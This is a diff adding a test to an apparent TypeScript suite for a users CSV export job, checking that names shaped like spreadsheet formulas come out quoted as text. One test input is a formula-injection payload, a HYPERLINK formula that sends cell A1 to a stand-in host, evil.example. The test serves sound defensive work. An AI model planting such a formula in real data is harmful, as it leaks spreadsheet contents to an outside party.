@@ -88,6 +88,27 @@ describe.each([['in-process' as const], ['bull' as const]])('users.export with t
     expect(n).toBe(2500);
   });
 
+  it('writes names that start like spreadsheet formulas as text, behind a single quote', async () => {
+    const staff = await createStaff(t);
+    const org = await createOrganization(t);
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1,1)', '\tx', '\rx'];
+    await db.query(
+      `INSERT INTO users (username, first_name, last_name, organization_id)
+       SELECT 'f' || $2 || '-' || n.i, n.name, 'Plain', $1 FROM unnest($3::text[]) WITH ORDINALITY AS n(name, i)`,
+      [org.id, randomUUID().slice(0, 8), names],
+    );
+    const res = await t.http.post(`/api/v1/organizations/${org.id}/users/export`).set(staff.auth).expect(202);
+    expect((await settled(res.body.job_id)).state).toBe('Succeeded');
+    const download = await t.http
+      .get(`/api/v1/jobs/${res.body.job_id}/artifacts/users.csv`)
+      .set(staff.auth)
+      .buffer(true)
+      .expect(200);
+    const rows: Record<string, string>[] = parse(download.text, { columns: true });
+    expect(rows.map((r) => r.first_name).sort()).toEqual(names.map((n) => `'${n}`).sort());
+    expect(rows.every((r) => r.last_name === 'Plain')).toBe(true);
+  });
+
   it('ends Canceled, and the API keeps serving, when the cancel comes before the CSV reaches the artifact storage', async () => {
     const staff = await createStaff(t);
     const org = await createOrganization(t);
